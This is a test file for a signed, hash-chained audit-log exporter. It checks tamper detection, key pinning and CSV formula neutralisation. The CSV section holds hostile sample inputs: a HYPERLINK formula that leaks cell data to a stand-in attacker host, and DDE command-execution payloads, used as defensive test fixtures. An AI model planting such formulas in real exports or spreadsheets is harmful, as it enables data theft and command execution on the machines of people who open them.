import { createHash, sign } from "node:crypto";
import { Writable } from "node:stream";
import { beforeAll, describe, expect, it } from "vitest";
import { setupMigratedDatabase } from "@/lib/testing/setup-migrated-database";
import { appendAuditEvent } from "./append-audit-event";
import { eventToTextRow } from "./audit-event-columns";
import { computeEventHash, type ChainedAuditEvent } from "./canonical-encoding";
import { exportAuditEvents } from "./export-audit-events";
import {
  EXPORT_FORMATS,
  exportEpilogue,
  exportPrologue,
  formatExportRow,
  readExportEvents,
  type ExportFormat,
} from "./export-formats";
import { encodeManifest, type ExportManifest } from "./export-manifest";
import type { AuditFilters } from "./audit-filters";
import { randomEventInput, seededRandom } from "./testing/audit-fixtures";
import { createTestSigningKey } from "./testing/test-signing-key";
import { verifyCheckpointSignature } from "./verify-checkpoint";
import type { TamperKind } from "./verify-chain";
import { verifyExport } from "./verify-export";

const EVENTS = 30;
const TRIALS_PER_KIND = 8;

class Collect extends Writable {
  chunks: Buffer[] = [];
  override _write(chunk: Buffer, _encoding: BufferEncoding, callback: () => void) {
    this.chunks.push(chunk);
    callback();
  }
  get text() {
    return Buffer.concat(this.chunks).toString("utf8");
  }
}

async function* chunksOf(text: string, size = 97): AsyncGenerator<Buffer> {
  // Small odd-sized chunks split records, quotes and multi-byte characters across reads.
  const bytes = Buffer.from(text, "utf8");
  for (let i = 0; i < bytes.length; i += size) yield bytes.subarray(i, i + size);
}

function serialize(format: ExportFormat, events: ChainedAuditEvent[]): string {
  return (
    exportPrologue(format) +
    events.map((e, i) => formatExportRow(format, eventToTextRow(e), i)).join("") +
    exportEpilogue(format, events.length)
  );
}

async function parse(format: ExportFormat, text: string): Promise<ChainedAuditEvent[]> {
  const events: ChainedAuditEvent[] = [];
  for await (const event of readExportEvents(chunksOf(text), format)) events.push(event);
  return events;
}

describe("audit exports", () => {
  const { pool } = setupMigratedDatabase({ poolMax: 3 });
  const key = createTestSigningKey();

  beforeAll(async () => {
    const random = seededRandom(42);
    for (let i = 0; i < EVENTS; i++) await appendAuditEvent(pool, randomEventInput(random, i));
  });

  const exportAs = async (format: ExportFormat, filters: AuditFilters = {}) => {
    const output = new Collect();
    const manifest = await exportAuditEvents({ pool, key, filters, format, output, batchSize: 7 });
    return { text: output.text, manifest };
  };
  // The offline check an auditor runs on the file, pinned to the key that signed it unless told otherwise.
  const verifyPinned = (
    format: ExportFormat,
    text: string,
    manifest: ExportManifest,
    publicKeyPem = key.publicKeyPem,
  ) => verifyExport({ chunks: chunksOf(text), format, manifest, publicKeyPem });

  it.each(EXPORT_FORMATS)(
    "%s: an unfiltered export round-trips through the offline verifier",
    async (format) => {
      const { text, manifest } = await exportAs(format);
      expect(manifest).toMatchObject({ format, contiguous: true, count: EVENTS, firstSeq: "1" });
      expect(BigInt(manifest.lastSeq!)).toBeGreaterThanOrEqual(BigInt(EVENTS));
      expect(manifest.lastHash).toBe(manifest.checkpoint.hash);
      const result = await verifyPinned(format, text, manifest);
      expect(result.problems).toEqual([]);
      expect(result).toMatchObject({
        ok: true,
        pinned: true,
        fileSha256: manifest.fileSha256,
        chain: { ok: true, count: EVENTS },
      });
      // Re-serialising what was read gives back the same bytes: nothing is lost in the format.
      expect(serialize(format, await parse(format, text))).toBe(text);
    },
  );

  it.each(EXPORT_FORMATS)(
    "%s: a filtered export verifies, and its gaps are not mistaken for deletions",
    async (format) => {
      const { text, manifest } = await exportAs(format, { namespace: "payments" });
      expect(manifest.contiguous).toBe(false);
      expect(manifest.count).toBeGreaterThan(2);
      expect(manifest.count).toBeLessThan(EVENTS);
      const result = await verifyPinned(format, text, manifest);
      expect(result.problems).toEqual([]);
      expect(result.ok).toBe(true);
      const events = await parse(format, text);
      expect(new Set(events.map((e) => e.targetNamespace))).toEqual(new Set(["payments"]));

      // Dropping one row of a filtered export is caught by the signed count and file hash.
      const fewer = serialize(
        format,
        events.filter((_, i) => i !== 1),
      );
      const tampered = await verifyExport({ chunks: chunksOf(fewer), format, manifest });
      expect(tampered.ok).toBe(false);
      expect(tampered.chain.broken?.kind).toBe("deleted");
      expect(tampered.problems).toContain("the file's SHA-256 differs from the manifest's");
    },
  );

  it("exports nothing but a valid manifest when no event matches", async () => {
    const { text, manifest } = await exportAs("json", { actor: "nobody" });
    expect(text).toBe("[\n]\n");
    expect(manifest).toMatchObject({ count: 0, firstSeq: null, lastSeq: null });
    expect((await verifyExport({ chunks: chunksOf(text), format: "json", manifest })).ok).toBe(true);
  });

  it("rejects a checkpoint and a manifest checked against the wrong key", async () => {
    const { text, manifest } = await exportAs("ndjson");
    const wrong = createTestSigningKey();
    expect(verifyCheckpointSignature(manifest.checkpoint, wrong.publicKeyPem)).toMatchObject({
      ok: false,
      pinned: true,
    });
    expect(verifyCheckpointSignature(manifest.checkpoint, key.publicKeyPem)).toMatchObject({
      ok: true,
      pinned: true,
    });
    const result = await verifyPinned("ndjson", text, manifest, wrong.publicKeyPem);
    expect(result.ok).toBe(false);
    expect(result.problems.join("\n")).toMatch(/checkpoint: .*signed by key/);
    // A forger who re-signs with their own key passes only without a pinned key.
    const forgedCheckpoint = { ...manifest.checkpoint, seq: "1" };
    expect(verifyCheckpointSignature(forgedCheckpoint).ok).toBe(false);
  });

  it("chains checkpoints through the previous signature", async () => {
    const first = (await exportAs("csv")).manifest.checkpoint;
    const second = (await exportAs("csv")).manifest.checkpoint;
    expect(second.prevSignature).toBe(first.signature);
    expect(verifyCheckpointSignature({ ...second, prevSignature: null }).ok).toBe(false);
  });

  describe("tampering with an exported file is named", () => {
    const exports = new Map<ExportFormat, { events: ChainedAuditEvent[]; manifest: ExportManifest }>();
    beforeAll(async () => {
      for (const format of EXPORT_FORMATS) {
        const { text, manifest } = await exportAs(format);
        exports.set(format, { events: await parse(format, text), manifest });
      }
    });

    type Edit = (
      events: ChainedAuditEvent[],
      random: () => number,
    ) => { expected: string[]; events: ChainedAuditEvent[] };
    const edits: Record<TamperKind, Edit> = {
      changed(events, random) {
        const k = Math.floor(random() * events.length);
        const edited = [...events];
        const original = edited[k]!;
        const fields: Partial<ChainedAuditEvent>[] = [
          { actorName: "mallory" },
          { details: '{"forged": true}' },
          { targetKeys: [...original.targetKeys, "EXTRA"] },
          { time: "2020-01-01T00:00:00.000Z" },
          { outcome: original.outcome === "success" ? "failure" : "success" },
          { hash: computeEventHash({ ...original, actorName: "mallory" }) },
        ];
        edited[k] = { ...original, ...fields[Math.floor(random() * fields.length)] };
        return { expected: [original.seq], events: edited };
      },
      deleted(events, random) {
        const k = Math.floor(random() * events.length);
        return { expected: [events[k]!.seq], events: events.filter((_, i) => i !== k) };
      },
      // A well-formed forged event claiming an existing number, before or after the real one.
      inserted(events, random) {
        const k = Math.floor(random() * events.length);
        const original = events[k]!;
        const forged = { ...original, actorName: "mallory", action: "settings.changed" };
        forged.hash = computeEventHash(forged);
        const at = random() < 0.5 ? k : k + 1;
        return { expected: [original.seq], events: [...events.slice(0, at), forged, ...events.slice(at)] };
      },
      reordered(events, random) {
        const from = Math.floor(random() * events.length);
        let to = Math.floor(random() * (events.length - 1));
        if (to >= from) to++;
        const moved = events[from]!;
        const rest = events.filter((_, i) => i !== from);
        const edited = [...rest.slice(0, to), moved, ...rest.slice(to)];
        // Moving an event by one place is swapping it with its neighbour: either may be named.
        const neighbour = Math.abs(from - to) === 1 ? [events[to]!.seq] : [];
        return { expected: [moved.seq, ...neighbour], events: edited };
      },
    };

    const trials = EXPORT_FORMATS.flatMap((format) =>
      (Object.keys(edits) as TamperKind[]).flatMap((kind) =>
        Array.from({ length: TRIALS_PER_KIND }, (_, trial) => ({
          format,
          kind,
          seed: `${format}-${kind}-${trial}`,
          n: trial,
        })),
      ),
    );

    it.each(trials)("$seed", async ({ format, kind, n }) => {
      const { events, manifest } = exports.get(format)!;
      const random = seededRandom(
        EXPORT_FORMATS.indexOf(format) * 1000 + Object.keys(edits).indexOf(kind) * 100 + n,
      );
      const edit = edits[kind](events, random);
      const result = await verifyPinned(format, serialize(format, edit.events), manifest);
      expect(result.ok).toBe(false);
      expect(result.chain.broken?.kind).toBe(kind);
      expect(edit.expected).toContain(result.chain.broken?.seq);
    });
  });
});

// Issue #13, item 4: CSV formula injection through a forged address or user agent.
describe("CSV exports neutralise spreadsheet formulas", () => {
  const { pool } = setupMigratedDatabase({ poolMax: 3 });
  const key = createTestSigningKey();
  const hostile = {
    ip: '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    userAgent: "=cmd|' /C calc'!A0",
    name: "@SUM(1+1)*cmd|' /C calc'!A0",
    userId: "'already quoted",
  };

  beforeAll(async () => {
    await appendAuditEvent(pool, {
      action: "auth.sign_in",
      outcome: "failure",
      actor: hostile,
      target: { name: "+1+cmd", namespace: "-2+3", kind: "\tTab", cluster: "\r=1+1" },
      requestId: "-",
      details: { note: "=1+1" },
    });
    await appendAuditEvent(pool, { action: "auth.sign_in", outcome: "success", actor: { name: "plain" } });
  });

  const exportAs = async (format: ExportFormat) => {
    const output = new Collect();
    const manifest = await exportAuditEvents({ pool, key, filters: {}, format, output });
    return { text: output.text, manifest };
  };

  it("prefixes every cell a spreadsheet would evaluate, and `audit verify` still verifies the file", async () => {
    const { text, manifest } = await exportAs("csv");
    expect(manifest.version).toBe(2);
    expect(text).toContain(`,"'=cmd|' /C calc'!A0",`);
    expect(text).toContain(`"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Click"")"`);
    expect(text).toContain(`,"''already quoted",`);

    // As a spreadsheet sees the cells: none starts with = + - @ TAB or CR.
    const cells: (string | null)[] = [];
    for await (const event of readExportEvents(chunksOf(text), "csv", undefined, { rawCsv: true }))
      cells.push(...eventToTextRow(event));
    expect(cells.filter((cell) => cell !== null && /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    const result = await verifyExport({
      chunks: chunksOf(text),
      format: "csv",
      manifest,
      publicKeyPem: key.publicKeyPem,
    });
    expect(result.problems).toEqual([]);
    expect(result).toMatchObject({ ok: true, chain: { ok: true, count: 2 } });

    // Reading recovers the values the chain hashed: the same as the NDJSON export's.
    const fromCsv = await parse("csv", text);
    expect(fromCsv).toEqual(await parse("ndjson", (await exportAs("ndjson")).text));
    expect(fromCsv[0]).toMatchObject({
      actorIp: hostile.ip,
      actorUserAgent: hostile.userAgent,
      actorName: hostile.name,
      actorUserId: hostile.userId,
      targetName: "+1+cmd",
      targetNamespace: "-2+3",
      targetKind: "\tTab",
      targetCluster: "\r=1+1",
      requestId: "-",
    });
    // The exporter (Postgres' COPY) and the formatter the verifier mirrors agree byte for byte.
    expect(serialize("csv", fromCsv)).toBe(text);
  });

  it("still verifies a version 1 export, written before cells were neutralised", async () => {
    const { text, manifest } = await exportAs("ndjson");
    const events = await parse("ndjson", text);
    const quote = (value: string) => `"${value.replaceAll('"', '""')}"`;
    const raw =
      exportPrologue("csv") +
      events
        .map((event) => {
          const [seq, ...rest] = eventToTextRow(event);
          return `${[seq, ...rest.map((value) => (value === null ? "" : quote(value)))].join(",")}\n`;
        })
        .join("");
    const unsigned = {
      ...manifest,
      version: 1 as const,
      format: "csv" as const,
      fileSha256: createHash("sha256").update(raw).digest("hex"),
    };
    const { signature: _old, ...withoutSignature } = unsigned;
    const v1: ExportManifest = {
      ...withoutSignature,
      signature: sign(null, encodeManifest(withoutSignature), key.privateKey).toString("base64"),
    };
    const result = await verifyExport({
      chunks: chunksOf(raw),
      format: "csv",
      manifest: v1,
      publicKeyPem: key.publicKeyPem,
    });
    expect(result.problems).toEqual([]);
    expect(result.ok).toBe(true);
    // The same bytes read as a current export would lose the user id's own leading quote.
    expect((await verifyExport({ chunks: chunksOf(raw), format: "csv" })).ok).toBe(false);
  });
});

describe("CSV exports gather the rows Postgres sends one at a time", () => {
  const { pool } = setupMigratedDatabase({ poolMax: 3 });
  const key = createTestSigningKey();

  beforeAll(async () => {
    // Many small rows, and large ones (details are capped at 16 KB) that straddle the 64 KB buffers.
    for (let i = 0; i < 300; i++)
      await appendAuditEvent(pool, {
        action: "auth.sign_in",
        outcome: "success",
        actor: { name: `user-${i}` },
      });
    for (let i = 0; i < 10; i++)
      await appendAuditEvent(pool, {
        action: "settings.updated",
        outcome: "success",
        actor: { name: "admin" },
        // Values are capped at 2,048 characters (longer ones might be secrets).
        details: Object.fromEntries(Array.from({ length: 7 }, (_, k) => [`part${k}`, `${i}`.repeat(2000)])),
      });
    await appendAuditEvent(pool, { action: "auth.sign_in", outcome: "success", actor: { name: "last" } });
  });

  it("writes every row whole and in order, in a few large chunks, and the export verifies", async () => {
    const output = new Collect();
    const writes: number[] = [];
    const write = output.write.bind(output);
    output.write = ((chunk: Buffer, ...rest: never[]) => {
      writes.push(chunk.length);
      return write(chunk, ...rest);
    }) as typeof output.write;
    const manifest = await exportAuditEvents({ pool, key, filters: {}, format: "csv", output });
    expect(manifest.count).toBe(311);
    // One write per 64 KB or so, not one per row.
    expect(writes.length).toBeLessThan(20);
    const events = await parse("csv", output.text);
    expect(events.map((e) => e.actorName)).toEqual([
      ...Array.from({ length: 300 }, (_, i) => `user-${i}`),
      ...Array.from({ length: 10 }, () => "admin"),
      "last",
    ]);
    for (let i = 0; i < 10; i++)
      expect((JSON.parse(events[300 + i]!.details) as Record<string, string>).part6).toBe(
        `${i}`.repeat(2000),
      );
    const result = await verifyExport({
      chunks: chunksOf(output.text),
      format: "csv",
      manifest,
      publicKeyPem: key.publicKeyPem,
    });
    expect(result).toMatchObject({ ok: true, chain: { ok: true, count: 311 } });
  });
});
